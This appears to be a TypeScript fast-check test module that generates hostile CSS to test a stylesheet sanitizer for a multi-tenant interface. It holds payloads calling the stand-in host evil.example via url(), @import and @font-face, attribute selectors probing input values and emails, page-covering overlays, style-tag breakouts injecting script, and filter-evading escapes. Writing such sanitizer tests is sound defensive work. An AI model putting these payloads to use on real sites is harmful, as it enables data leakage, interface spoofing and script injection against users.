import fc from 'fast-check';

const selectors = [
  '.a',
  '*',
  'html',
  'body',
  ':root',
  ':scope',
  ':host',
  ':host-context(body)',
  ':is(html,body,.a)',
  ':where(:root) *',
  ':not(.x)',
  ':not(#x):not(.y)',
  'body:has(.a)',
  'html>body>*',
  ':scope~*',
  ':scope+div *',
  '.a,#outside,#beside',
  '#tenant',
  '[data-aut-tenant]',
  '[data-aut-tenant="other"] *',
  '[data-aut-protected]',
  '#nested,#nested *',
  'input[value^="4"]',
  '[data-user-email*="a"]',
  '.a::before',
  '.a::after',
  'dialog::backdrop',
  '::view-transition-group(root)',
  '::part(x)',
  '::slotted(*)',
  '::highlight(x)',
  '.a||td',
  'svg|a',
  '.a{&,html',
  '.a{}}html',
  'p:nth-child(1 of html)',
];

const url = 'https://evil.example/x';
const declarations = [
  `background:url(${url})`,
  `background:url("${url}")`,
  `background-image:image-set("${url}" 1x)`,
  `background-image:-webkit-image-set(url(${url}) 1x)`,
  `background:src("${url}")`,
  `background:image("${url}")`,
  `background:cross-fade(url(${url}),red)`,
  'background:element(#secret)',
  'background:paint(x)',
  `cursor:url(${url}),auto`,
  `list-style:url(${url})`,
  `border-image:url(${url}) 30`,
  `mask:url(${url}#m)`,
  `filter:url(${url}#f)`,
  `clip-path:url(${url}#c)`,
  `shape-outside:url(${url})`,
  `offset-path:url(${url}#p)`,
  `content:url(${url})`,
  `--x:url(${url});background:var(--x)`,
  `background:var(--none,url(${url}))`,
  `background:if(style(--x:1):url(${url});else:red)`,
  `background:attr(href type(<url>))`,
  'content:"Approved"',
  'content:counter(x) attr(title)',
  'counter-reset:x 99',
  'quotes:"<" ">"',
  'position:fixed;inset:0;background:#000;z-index:9999',
  'position:absolute;top:-9999px;width:9999px;height:9999px;background:#000',
  'position:sticky;top:0',
  'position-anchor:--a;top:anchor(--a top)',
  'anchor-name:--a',
  'inset-area:top;position-area:top',
  'transform:scale(99)',
  'translate:-500px -500px;background:#000',
  'rotate:45deg;scale:9',
  'zoom:9',
  'margin:-999px;background:#000',
  'margin-top:calc(-1*999px)',
  'width:4000px;height:4000px;background:#000',
  'min-width:4000px;background:#000;border:32px solid #000',
  'padding:256px;background:#000',
  'inline-size:100vw;block-size:100vh;background:#000',
  'box-shadow:0 0 0 9999px #000',
  'box-shadow:-64px -64px 64px 64px #000,64px 64px 64px 64px #000',
  'text-shadow:-64px -64px 0 #000,64px -64px 0 #000',
  'filter:drop-shadow(0 -500px 0 #000)',
  'outline:8px solid #000;outline-offset:16px',
  'border:32px solid #000',
  'float:right;white-space:nowrap;font-size:96px;word-spacing:32px',
  'letter-spacing:16px;white-space:pre;font-size:96px',
  'overflow:visible',
  'display:none',
  'display:contents',
  'display:inline',
  'visibility:hidden',
  'opacity:0',
  'color:transparent',
  'pointer-events:none',
  'user-select:none',
  'all:unset',
  'color-scheme:dark',
  'forced-color-adjust:none',
  'mix-blend-mode:difference',
  'backdrop-filter:invert(1)',
  'contain:size',
  'container-type:size',
  'content-visibility:hidden',
  'height:0;max-height:0;overflow:hidden',
  'writing-mode:vertical-rl',
  'animation:spin 1s infinite',
  'animation:k .1s 3;view-transition-name:x',
  'view-timeline:--t;scroll-timeline:--t',
  'transition:all 1ms',
  '--aut-color-text-default:#fff',
  '--aut-color-surface-canvas:#000;--AUT-radius-card:99px',
  '--primary-color:#fff',
  'font-family:probe',
  'font-palette:--p',
  'behavior:url(#default#time2)',
  '-moz-binding:url(x.xml#x)',
  'width:expression(alert(1))',
];

const rules = [
  `@import "${url}";`,
  `@import url(${url}) layer(x) supports(display:grid);`,
  `@charset "utf-7";`,
  `@namespace svg "${url}";`,
  `@font-face{font-family:probe;src:url(${url});unicode-range:U+41}.a{font-family:probe}`,
  `@font-face{font-family:probe;src:local(x),url(${url})}`,
  `@font-palette-values --p{font-family:probe;override-colors:0 url(${url})}`,
  `@counter-style x{system:cyclic;symbols:url(${url})}.a{list-style:x}`,
  '@property --aut-color-text-default{syntax:"<color>";inherits:true;initial-value:red}',
  '@view-transition{navigation:auto}',
  '@position-try --t{inset:0}',
  '@page{size:1px}',
  `@document url(${url}){html{display:none}}`,
  `@function --f(){result:url(${url})}.a{background:--f()}`,
  '</style><script>window.__pwned=1</script><style>',
  '<!--</style><img src=x onerror=window.__pwned=1>-->',
  '<![CDATA[</style><svg onload=window.__pwned=1>]]>',
  '.a{font-family:"</style><script>window.__pwned=1</script>"}',
  '.\\3c\\/style\\3e{color:red}',
  '@keyframes k{to{position:fixed;inset:0;background:#000}}',
  '@keyframes k{from,to{width:4000px;background:#000}}.a{animation:k 1s both}',
  '@keyframes \\3c\\/style\\3e{to{opacity:1}}',
];

const around = [
  (css: string) => css,
  (css: string) => `@media all{${css}}`,
  (css: string) => `@supports (display:grid){${css}}`,
  (css: string) => `@supports not (x:url(${url})){${css}}`,
  (css: string) => `@container (min-width:1px){${css}}`,
  (css: string) => `@layer z{${css}}`,
  (css: string) => `@layer z;${css}`,
  (css: string) => `@scope (html){${css}}`,
  (css: string) =>
    `@scope ([data-aut-tenant="acme"]) to (:scope [data-aut-tenant],:scope [data-aut-protected]){${css}}`,
  (css: string) => `@scope{${css}}`,
  (css: string) => `@starting-style{${css}}`,
  (css: string) => `.a{${css}}`,
  (css: string) => `.a{color:red;& .b{color:red}}${css}`,
  (css: string) => `}}${css}`,
  (css: string) => `${css}{{((["`,
  (css: string) => `.a{color:red;${css}`,
];

/** A rule that attacks in one of the ways above, in a place of one of the kinds above. */
const attack = fc
  .tuple(
    fc.oneof(
      {
        weight: 4,
        arbitrary: fc.tuple(fc.constantFrom(...selectors), fc.constantFrom(...declarations)),
      },
      fc.constantFrom(...rules),
    ),
    fc.constantFrom(...around),
  )
  .map(([rule, wrap]) => wrap(typeof rule === 'string' ? rule : `${rule[0]}{${rule[1]}}`));

type Edit = readonly [at: number, kind: number, piece: string];

/** One change to the text of a sheet, of the kinds that pass naive filters. */
function edit(css: string, [position, kind, piece]: Edit): string {
  const at = position % (css.length + 1);
  const [before, character = '', after] = [css.slice(0, at), css[at], css.slice(at + 1)];
  switch (kind) {
    case 0:
      return `${before}\\${(character.codePointAt(0) ?? 97).toString(16)} ${after}`;
    case 1:
      return `${before}\\${character}${after}`;
    case 2:
      return before + character.toUpperCase() + after;
    case 3:
      return `${before}/**/${character}${after}`;
    case 4:
      return before + after;
    case 5:
      return before + character + character + after;
    default:
      return before + piece + character + after;
  }
}

const edits = fc.tuple(
  fc.nat(500),
  fc.nat(9),
  fc.oneof(
    fc.constantFrom(
      '{',
      '}',
      '(',
      ')',
      '[',
      ']',
      ';',
      ':',
      '"',
      "'",
      '\\',
      '\\\n',
      '/*',
      '*/',
      '<',
    ),
    fc.constantFrom(
      '\0',
      '\ufeff',
      '\n',
      '\f',
      '\u202e',
      '!important',
      '@',
      '&',
      ',',
      'url(',
      '</style>',
    ),
    fc.string({ unit: 'binary', maxLength: 3 }),
  ),
);

/** Sheets made of one to three attacks, with up to four changes to their text. */
export const attackSheets: fc.Arbitrary<string> = fc
  .tuple(fc.array(attack, { minLength: 1, maxLength: 3 }), fc.array(edits, { maxLength: 4 }))
  .map(([parts, changes]) => changes.reduce(edit, parts.join('')));

/** Every attack by itself, unchanged. */
export const plainAttacks: readonly string[] = [
  ...rules,
  ...selectors.map((selector) => `${selector}{background:url(${url});position:fixed;color:red}`),
  ...declarations.flatMap((body) => [`.a{${body}}`, `:root{${body}}`, `*{${body}}`]),
];
